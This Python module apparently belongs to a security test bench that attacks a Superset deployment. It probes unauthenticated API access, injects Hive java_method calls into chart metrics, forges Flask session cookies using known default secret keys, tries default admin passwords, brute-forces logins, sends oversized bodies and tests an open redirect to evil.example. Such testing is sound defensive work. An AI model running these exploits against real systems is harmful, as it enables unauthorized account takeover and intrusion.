"""Attempts at Superset: without signing in, by guessing, by a foreign page, and as somebody who may only look."""

import base64
import hashlib
import hmac
import json
import re
import time

import requests

from bench.attacks import rpc, web
from bench.attacks.attempts import ATTEMPTS, Attempt, Failed, Refused, Target, Wall, attempt

DOOR, PORT = "Superset", "SUPERSET"
# Without a dot: PyHive's dialect takes one for a table's.
IN_A_METRIC = (
    "java_method(concat('java', char(46), 'lang', char(46), 'System'), 'getProperty', concat('user', char(46), 'name'))"
)
JAVA = "java_method('java.lang.System', 'getProperty', 'user.name')"
SECRET_KEYS = ("", "CHANGE_ME_TO_A_COMPLEX_RANDOM_SECRET", "thisISaSECRET_1234", "TEST_NON_DEV_SECRET",
               "YOUR_OWN_RANDOM_GENERATED_SECRET_KEY", "CHANGE_ME_SECRET_KEY")  # fmt: skip
PATHS = (
    "/api/v1/chart/", "/api/v1/dashboard/", "/api/v1/dataset/", "/api/v1/database/", "/api/v1/sqllab/",
    "/api/v1/query/", "/api/v1/security/users/", "/api/v1/assets/export/", "/api/v1/log/",
    "/superset/dashboard/history/", "/users/list/", "/swagger/v1", "/aero/tiles/3/1/1.svg?x=1",
)  # fmt: skip


def _anonymously(path: str):
    def run(target: Target) -> str:
        answer = web.ask(target, "GET", PORT, path)
        if answer.status_code == 404:
            raise Refused("404: there is no such page")
        return web.proof(answer)

    return run


for path in PATHS:
    # The tiles are borders that anyone may see; what is asked of them is in an attempt of its own.
    wall = Wall.NONE if "tiles" in path else Wall.DOOR
    ATTEMPTS.append(Attempt(f"reads {path.partition('?')[0]} without signing in", DOOR, f"GET {path}",
                            _anonymously(path), PORT, wall=wall))  # fmt: skip


def question_of(expression: str, datasource: int = 1) -> dict:
    metric = {"expressionType": "SQL", "sqlExpression": expression, "label": "attack"}
    query = {"metrics": [metric], "columns": [], "filters": [], "row_limit": 1}
    return {"datasource": {"id": datasource, "type": "table"}, "queries": [query], "result_type": "full", "force": True}


@attempt(DOOR, PORT, issue=1)
def asks_for_a_chart_without_signing_in(target: Target) -> str:
    """POST /api/v1/chart/data?dashboard_id=1 with java_method in a metric, without a session"""
    return web.proof(web.ask(target, "POST", PORT, "/api/v1/chart/data?dashboard_id=1", json=question_of(IN_A_METRIC)))


@attempt(DOOR, PORT, issue=1)
def leaves_a_request_that_is_none(target: Target) -> str:
    """POST /api/v1/chart/data?dashboard_id=1 with {"x": 1}, without a session"""
    return web.proof(web.ask(target, "POST", PORT, "/api/v1/chart/data?dashboard_id=1", json={"x": 1}))


@attempt(DOOR, PORT)
def asks_sql_lab_without_signing_in(target: Target) -> str:
    """POST /api/v1/sqllab/execute/ without a session"""
    return web.proof(
        web.ask(target, "POST", PORT, "/api/v1/sqllab/execute/", json={"database_id": 1, "sql": "SELECT 1"})
    )


@attempt(DOOR, PORT)
def takes_a_guest_s_token(target: Target) -> str:
    """POST /api/v1/security/guest_token/ without a session"""
    return web.proof(web.ask(target, "POST", PORT, "/api/v1/security/guest_token/", json={"user": {}, "resources": []}))


@attempt(DOOR, PORT)
def makes_itself_an_account(target: Target) -> str:
    """POST /register/form"""
    answer = web.ask(target, "POST", PORT, "/register/form", data={"username": target.marker})
    if answer.status_code in (400, 404, 405):
        raise Refused(f"{answer.status_code}: there is no such form")
    return web.proof(answer)


@attempt(DOOR, PORT)
def forges_a_session(target: Target) -> str:
    """a cookie of user 1, signed with the keys that Superset's documents and images have had"""
    page = web.ask(target, "GET", PORT, "/login/")
    for key in SECRET_KEYS:
        cookie = {f"aero_session_{target.port(PORT)}": _signed(key), "session": _signed(key)}
        answer = web.ask(target, "GET", PORT, "/api/v1/me/", cookies=cookie)
        if answer.status_code == 200:
            return f"signed in with the key {key!r}"
    web.proof(page)
    raise Refused("401 with each of the keys")


def _signed(key: str) -> str:
    """A cookie as Flask signs it: JSON, time, and HMAC-SHA1 of a key that is derived from the secret."""

    def text(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    session = json.dumps({"_user_id": "1", "user_id": 1, "_fresh": True}).encode()
    value = f"{text(session)}.{text(int(time.time()).to_bytes(4, 'big'))}"
    derived = hmac.new(key.encode(), b"cookie-session", hashlib.sha1).digest()
    return f"{value}.{text(hmac.new(derived, value.encode(), hashlib.sha1).digest())}"


def sign_in(target: Target, name: str, password: str) -> requests.Response:
    body = {"username": name, "password": password, "provider": "db"}
    return web.ask(target, "POST", PORT, "/api/v1/security/login", json=body, auth=("", ""))


@attempt(DOOR, PORT)
def signs_in_with_known_passwords(target: Target) -> str:
    """admin with admin, general, superset, password and aero"""
    for password in ("admin", "general", "superset", "password", "aero"):
        answer = sign_in(target, "admin", password)
        if answer.ok:
            return f"admin's password is {password}"
    return web.proof(answer)


def guesses(number_of: int, each, what: str = "passwords") -> str:
    """How many guesses a door takes, at ten a second."""
    began, taken = time.monotonic(), 0
    for number in range(number_of):
        answer = each(number)
        if answer.status_code == 429:
            raise Refused(f"429 after {taken} guesses")
        taken += 1
        time.sleep(max(0.0, began + number / 10 - time.monotonic()))
    return f"{taken} wrong {what} in {time.monotonic() - began:.0f} s, none slowed"


@attempt(DOOR, PORT, issue=8, seconds=120)
def guesses_passwords_by_the_api(target: Target) -> str:
    """40 wrong passwords at ten a second, POST /api/v1/security/login"""
    return guesses(40, lambda number: sign_in(target, f"nobody-{target.marker}", f"wrong-{number}"))


def token_of_form(page: str) -> str:
    """What a page of Superset's sends against forged forms. Raises Failed where it has none."""
    token = re.search(r'csrf_token[^>]*value="([^"]+)"|csrf_token&#34;: &#34;([^&]+)', page)
    if not token:
        raise Failed("its page has no token")
    return token[1] or token[2]


@attempt(DOOR, PORT, issue=8, seconds=120)
def guesses_passwords_by_the_form(target: Target) -> str:
    """40 wrong passwords at ten a second, POST /login/ with the token of its page"""
    with rpc.connected(target.host, target.port(PORT)):
        page = requests.Session()
    token = token_of_form(page.get(target.url(PORT, "/login/"), timeout=20).text)
    form = {"username": f"nobody-{target.marker}", "csrf_token": token}
    where = target.url(PORT, "/login/")
    return guesses(40, lambda number: page.post(where, data=form | {"password": f"wrong-{number}"}, timeout=20,
                                                 allow_redirects=False))  # fmt: skip


@attempt(DOOR, PORT, issue=6)
def asks_for_a_tile_of_an_unbounded_map(target: Target) -> str:
    """GET /aero/tiles/10000000000/0/0.svg"""
    began = time.monotonic()
    answer = web.ask(target, "GET", PORT, "/aero/tiles/10000000000/0/0.svg")
    took = time.monotonic() - began
    if answer.status_code == 404 and took < 5:
        raise Refused(f"404 after {took:.2f} s")
    return f"{answer.status_code} after {took:.2f} s"


@attempt(DOOR, PORT, issue=8)
def sends_too_much(target: Target) -> str:
    """64 MB of JSON to the page of signing in"""
    body = b'{"username": "' + b"x" * 64_000_000 + b'"}'
    headers = {"Content-Type": "application/json"}
    try:
        answer = web.ask(target, "POST", PORT, "/api/v1/security/login", data=body, headers=headers)
    except Failed as broken:
        raise Refused("the connection is closed before all is sent") from broken
    if answer.status_code == 413:
        raise Refused("413")
    return f"read to its end, and answered {answer.status_code}"


@attempt(DOOR, PORT)
def leads_away_after_signing_in(target: Target) -> str:
    """GET /login/?next=//evil.example, and whether the page leads there"""
    answer = web.ask(target, "GET", PORT, "/login/?next=//evil.example/")
    if answer.headers.get("Location", "").startswith(("//evil", "http://evil")):
        return f"it leads to {answer.headers['Location']}"
    raise Refused(f"{answer.status_code}: it leads nowhere else")
